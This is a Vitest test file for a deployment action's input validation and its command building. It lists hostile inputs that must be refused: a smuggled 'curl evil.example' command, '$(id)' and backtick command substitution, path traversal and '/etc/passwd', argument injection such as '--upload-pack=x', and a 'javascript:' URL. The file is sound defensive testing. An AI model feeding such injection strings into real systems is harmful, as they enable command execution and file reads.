import { describe, expect, it } from 'vitest'
import { loadAction } from './load-action.ts'

const { readInputs } = await loadAction('inputs.mjs')
const { argumentsOf } = await loadAction('deploy.mjs')

const good = { INPUT_URL: 'https://pipi.example', INPUT_TOKEN: 'pipi_0123456789' }
const run = {
  GITHUB_REPOSITORY: 'group/site',
  GITHUB_SHA: 'a'.repeat(40),
  GITHUB_RUN_ID: '1',
  GITHUB_RUN_ATTEMPT: '1',
  GITHUB_JOB: 'deploy',
}

describe("the action's inputs", () => {
  it('have defaults for all but the platform and the token', () => {
    expect(readInputs(good)).toMatchObject({ target: '.', engine: '', source: 'git', waitTimeout: '1800' })
  })

  it.each([
    ['INPUT_URL', 'http://elsewhere.example'],
    ['INPUT_URL', 'https://user:password@pipi.example'],
    ['INPUT_URL', 'javascript:alert(1)'],
    ['INPUT_TOKEN', ''],
    ['INPUT_TOKEN', 'two words here'],
    ['INPUT_ENGINE', 'aws; curl evil.example'],
    ['INPUT_REGION', '$(id)'],
    ['INPUT_TARGET', '../outside'],
    ['INPUT_TARGET', 'a/../../b'],
    ['INPUT_TARGET', '/etc/passwd'],
    ['INPUT_TARGET', '--engine'],
    ['INPUT_TARGET', '`id`'],
    ['INPUT_SOURCE', 'svn'],
    ['INPUT_WAIT-TIMEOUT', '0'],
    ['INPUT_WAIT-TIMEOUT', '1e9'],
  ])('refuse %s = %j', (name, value) => {
    expect(() => readInputs({ ...good, [name]: value })).toThrow(/not valid/)
  })

  it('are all named in one answer, and never with the token', () => {
    const wrong = { INPUT_URL: 'x', INPUT_TOKEN: 'secret with spaces', INPUT_ENGINE: 'nope!' }
    expect(() => readInputs(wrong)).toThrow(/engine.*\n.*url.*\n.*token/s)
    expect(() => readInputs(wrong)).not.toThrow(/secret with spaces/)
  })
})

describe('the command that the action runs', () => {
  it('names the repository and the very commit', () => {
    const words = argumentsOf(readInputs({ ...good, INPUT_TARGET: 'examples/a/workspace.yaml' }), run)
    expect(words.join(' ')).toContain(`--git https://github.com/group/site --ref ${'a'.repeat(40)} --path examples/a`)
  })

  it('does not hold the token', () => {
    expect(argumentsOf(readInputs(good), run).join(' ')).not.toContain(good.INPUT_TOKEN)
  })

  it('has one key for one run, and another for the next', () => {
    const key = (environment: Record<string, string>) =>
      argumentsOf(readInputs(good), { ...run, ...environment }).find((word: string) => word.startsWith('github-'))
    expect(key({})).toBe(key({}))
    expect(key({ GITHUB_RUN_ID: '2' })).not.toBe(key({}))
  })

  it('sends the checkout along when asked, without naming a repository', () => {
    expect(argumentsOf(readInputs({ ...good, INPUT_SOURCE: 'folder' }), {})).not.toContain('--git')
  })

  it('refuses a repository that is none', () => {
    expect(() => argumentsOf(readInputs(good), { ...run, GITHUB_REPOSITORY: '--upload-pack=x' })).toThrow(
      /GITHUB_REPOSITORY/,
    )
  })
})
